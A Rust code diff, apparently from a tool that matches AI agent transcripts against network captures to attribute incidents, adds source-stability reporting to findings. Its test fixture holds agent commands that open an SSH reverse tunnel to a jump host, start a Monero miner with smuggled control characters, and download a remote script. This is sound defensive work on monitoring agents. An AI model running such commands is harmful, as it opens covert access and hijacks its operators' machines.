@@ -8,6 +8,7 @@ use super::lines::*;
 use super::when::{rfc3339, seconds, six_digits};
 use super::{Reading, escape};
 use crate::correlate::drift::ClockSegment;
+use crate::correlate::stability::Stability;
 use crate::correlate::{Alignment, AlignmentTest, Analysis, Clock, ConfigRate, Finding, Rival, StepRef, Term};
 use crate::evidence::{EvidenceId, Record};
 use crate::intake::Source;
@@ -255,6 +256,39 @@ impl Names<'_> {
         }
     }
 
+    fn stability(&self, stability: &Stability) -> StabilityLine {
+        let path = |evidence: &EvidenceId| self.record(Record { evidence: *evidence, number: 0 }).path;
+        StabilityLine {
+            by: stability.by.to_owned(),
+            log10_lr: [stability.log10_lr.0, stability.log10_lr.1].map(|bans| six_digits(bans).unwrap_or_default()),
+            rests_on: stability.rests_on.clone(),
+            without: stability
+                .without
+                .iter()
+                .map(|one| WithoutLine {
+                    name: one.name.clone(),
+                    paths: one.sources.iter().map(path).collect(),
+                    found: one.found.is_some(),
+                    log10_lr: one.found.and_then(|found| six_digits(found.log10_lr)),
+                    initiator: one.found.map(|found| found.initiator.to_owned()),
+                    other_steps: one.found.is_some_and(|found| !found.same_steps),
+                    witness: one.witness,
+                })
+                .collect(),
+            settings: stability
+                .settings
+                .iter()
+                .map(|one| SettingLine {
+                    setting: one.name.clone(),
+                    p: six_digits(one.p),
+                    aligned: one.aligned,
+                    initiator: one.initiator.to_owned(),
+                })
+                .collect(),
+            sentences: stability.sentences.clone(),
+        }
+    }
+
     fn records(&self, records: &[Record]) -> Vec<RecordLine> {
         records.iter().map(|record| self.record(*record)).collect()
     }
@@ -330,6 +364,7 @@ impl Names<'_> {
             last: finding.last.map(rfc3339),
             would_decide: finding.would_decide.clone(),
             limits: finding.limits.clone(),
+            stability: finding.stability.as_ref().map(|stability| self.stability(stability)),
         }
     }
 
@@ -371,7 +406,7 @@ mod tests {
         {"type":"signal","id":"S-0001","behaviour":"tunnel","kind":"ssh-reverse","confidence":"certain","time":"2026-11-20T14:14:16.000000000Z","time_hi":"2026-11-20T14:15:01.000000000Z","src_ip":"10.20.0.5","src_port":50012,"dst_ip":"203.0.113.66","dst_port":443,"protocol":"tcp","source":"network","summary":"SSH on port 443, 1 inbound session","domains":["jump.example"],"records":[{"path":"capture.pcap","locator":"packet 88"}]}
         {"type":"signal","id":"S-0002","behaviour":"mining","kind":"monero-login","confidence":"certain","time":"2026-11-20T14:14:16.000000000Z","time_hi":"2026-11-20T14:15:01.000000000Z","src_ip":"10.20.0.5","src_port":50012,"dst_ip":"198.51.100.23","dst_port":3333,"protocol":"tcp","source":"network","summary":"9 shares in 45 s","domains":["jump.example"],"records":[{"path":"capture.pcap","locator":"packet 88"}]}
         {"type":"finding","id":"F-0001","behaviour":"tunnel","episode":"ep-001","run":"run-a","steps":[{"index":4,"path":"transcripts/ep-001.jsonl","locator":"line 11","time":"2026-11-20T14:14:15.000000000Z","time_hi":"2026-11-20T14:14:17.000000000Z","tool":"Bash","command":"ssh -f -N -R 2222:localhost:22 jump.example -p 443"}],"signals":["S-0001"],"strength":{"log10_lr":6.0,"words":"very strong","terms":[{"term":"indicator","observed":"203.0.113.66 in step 4","log10_lr":3.9,"counts":"n_v=0 N=8412","cap":"N+1","records":[{"path":"transcripts/ep-001.jsonl","locator":"line 11"},{"path":"capture.pcap","locator":"packet 88"}]},{"term":"lag","observed":"0.9 s (clock ±0.4 s)","log10_lr":0.8,"counts":"anchors 46","cap":"","records":[{"path":"capture.pcap","locator":"packet 88"}]}],"p_none":1e-6,"p_step":0.999999},"initiator":"agent","rivals":[{"hypothesis":"agent","log10_lr":0.0,"rows":[{"observable":"the peer's address stands in the agent's own words before the event","log10_p":-0.02},{"observable":"onsets while no step ran","log10_p":-0.1}]},{"hypothesis":"external-compromise","log10_lr":-3.1,"rows":[{"observable":"the peer's address stands in the agent's own words before the event","log10_p":-3.1},{"observable":"onsets while no step ran","log10_p":-0.12}]}],"attack":["T1572"],"level":"high","summary":"ssh -R … jump.example:443 → 203.0.113.66:443: SSH, remote forward asked for","first":"2026-11-20T14:14:16.000000000Z","last":"2026-11-20T14:15:01.000000000Z","would_decide":["the host's auth log"],"limits":["capture covers 60 % of the episode"]}
-        {"type":"finding","id":"F-0002","behaviour":"mining","episode":"ep-001","run":"run-a","steps":[{"index":5,"path":"transcripts/ep-001.jsonl","locator":"line 14","time":"2026-11-20T14:14:14.000000000Z","time_hi":"2026-11-20T14:14:18.000000000Z","tool":"Bash","command":"=xmrig -o pool\u202e.example:3333\u001b[2J"}],"signals":["S-0002"],"strength":{"log10_lr":6.0,"words":"very strong","terms":[{"term":"indicator","observed":"203.0.113.66 in step 4","log10_lr":3.9,"counts":"n_v=0 N=8412","cap":"N+1","records":[{"path":"transcripts/ep-001.jsonl","locator":"line 11"},{"path":"capture.pcap","locator":"packet 88"}]},{"term":"lag","observed":"0.9 s (clock ±0.4 s)","log10_lr":0.8,"counts":"anchors 46","cap":"","records":[{"path":"capture.pcap","locator":"packet 88"}]}],"p_none":1e-6,"p_step":0.999999},"initiator":"agent","rivals":[{"hypothesis":"agent","log10_lr":0.0,"rows":[{"observable":"the peer's address stands in the agent's own words before the event","log10_p":-0.02},{"observable":"onsets while no step ran","log10_p":-0.1}]},{"hypothesis":"external-compromise","log10_lr":-3.1,"rows":[{"observable":"the peer's address stands in the agent's own words before the event","log10_p":-3.1},{"observable":"onsets while no step ran","log10_p":-0.12}]}],"attack":["T1496.001"],"level":"high","summary":"… -o pool.example:3333 → Monero login, 9 shares, 45 s","first":"2026-11-20T14:14:16.000000000Z","last":"2026-11-20T14:15:01.000000000Z","would_decide":["the host's auth log"],"limits":["capture covers 60 % of the episode"]}
+        {"type":"finding","id":"F-0002","behaviour":"mining","episode":"ep-001","run":"run-a","steps":[{"index":5,"path":"transcripts/ep-001.jsonl","locator":"line 14","time":"2026-11-20T14:14:14.000000000Z","time_hi":"2026-11-20T14:14:18.000000000Z","tool":"Bash","command":"=xmrig -o pool\u202e.example:3333\u001b[2J"}],"signals":["S-0002"],"strength":{"log10_lr":6.0,"words":"very strong","terms":[{"term":"indicator","observed":"203.0.113.66 in step 4","log10_lr":3.9,"counts":"n_v=0 N=8412","cap":"N+1","records":[{"path":"transcripts/ep-001.jsonl","locator":"line 11"},{"path":"capture.pcap","locator":"packet 88"}]},{"term":"lag","observed":"0.9 s (clock ±0.4 s)","log10_lr":0.8,"counts":"anchors 46","cap":"","records":[{"path":"capture.pcap","locator":"packet 88"}]}],"p_none":1e-6,"p_step":0.999999},"initiator":"agent","rivals":[{"hypothesis":"agent","log10_lr":0.0,"rows":[{"observable":"the peer's address stands in the agent's own words before the event","log10_p":-0.02},{"observable":"onsets while no step ran","log10_p":-0.1}]},{"hypothesis":"external-compromise","log10_lr":-3.1,"rows":[{"observable":"the peer's address stands in the agent's own words before the event","log10_p":-3.1},{"observable":"onsets while no step ran","log10_p":-0.12}]}],"attack":["T1496.001"],"level":"high","summary":"… -o pool.example:3333 → Monero login, 9 shares, 45 s","first":"2026-11-20T14:14:16.000000000Z","last":"2026-11-20T14:15:01.000000000Z","would_decide":["the host's auth log"],"limits":["capture covers 60 % of the episode"],"stability":{"by":"source","log10_lr":[5.5,6.0],"rests_on":["capture.pcap"],"without":[{"name":"capture.pcap","paths":["capture.pcap"],"found":false,"witness":true},{"name":"firewall.log","paths":["firewall.log"],"found":true,"log10_lr":5.5,"initiator":"agent"}],"settings":[{"setting":"session gap 5 min","p":0.00003,"aligned":true,"initiator":"agent"}],"sentences":["Rests on capture.pcap alone."]}}
         {"type":"unexplained","behaviour":"probing","signals":["S-0003"],"leading":"external-compromise","summary":"40 ports of 10.30.0.20 in 2.0 s","rivals":[{"hypothesis":"agent","log10_lr":0.0,"rows":[{"observable":"the peer's address stands in the agent's own words before the event","log10_p":-0.02},{"observable":"onsets while no step ran","log10_p":-0.1}]},{"hypothesis":"external-compromise","log10_lr":-3.1,"rows":[{"observable":"the peer's address stands in the agent's own words before the event","log10_p":-3.1},{"observable":"onsets while no step ran","log10_p":-0.12}]}],"would_decide":["the jump host's auth log"]}
         {"type":"uncovered","behaviour":"download","episode":"ep-001","step":{"index":2,"path":"transcripts/ep-001.jsonl","locator":"line 6","time":"2026-11-20T14:13:56.000000000Z","time_hi":"2026-11-20T14:13:58.000000000Z","tool":"Bash","command":"curl -O http://198.51.100.7/x.sh"},"rule":"command-download","coverage":"no telemetry covers this time"}
         {"type":"anomaly","path":"capture.pcap","locator":"packet 1204","anomaly":"truncated-record","detail":"1514 bytes announced, 20 left","of":1}
